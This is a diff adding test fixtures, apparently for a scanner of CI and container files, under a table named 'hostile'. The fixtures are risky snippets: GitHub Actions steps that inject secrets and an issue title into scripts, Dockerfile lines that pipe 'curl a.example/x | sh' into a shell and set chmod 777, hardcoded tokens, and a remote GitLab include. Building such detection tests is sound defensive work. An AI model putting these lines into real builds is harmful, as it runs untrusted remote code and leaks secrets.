@@ -139,6 +139,30 @@ const hostile: Readonly<
     line("- ", "a: "),
     line("&a [*a, *a]\n", "a: "),
     line("  "),
+    line(
+      `      - uses: a/b@v1\n      - run: npm i ${opened}{ secrets.A }}\n`,
+      "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n",
+    ),
+    line(
+      `          f(\`${opened}{ github.event.issue.title }}\`, "a");\n`,
+      "on: issues\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n",
+    ),
+  ],
+  Dockerfile: [
+    line(
+      "RUN npm install && curl a.example/x | sh && chmod 777 /srv\n",
+      "FROM node\nCOPY package*.json ./\n",
+    ),
+    line("FROM a AS a\nADD b c\nCMD node a.js\n"),
+    line(" \\\n  && curl a.example/x | sh", "FROM node\nRUN true"),
+    line("ENV A_TOKEN=a1B2c3D4e5F6g7 B=$A_TOKEN\n", "FROM node\n"),
+    line("a:", "FROM "),
+    line("RUN <<EOF\n"),
+  ],
+  ".gitlab-ci.yml": [
+    line("  A_TOKEN: a1B2c3D4e5F6g7\n", "variables:\n"),
+    line("a:\n  image: node\n", ""),
+    line("  - remote: https://a.example/a.yml\n", "include:\n"),
   ],
   "src/a.env": [line("A=b\n"), line("://a:"), line("AKIA"), line("-----BEGIN ")],
 };
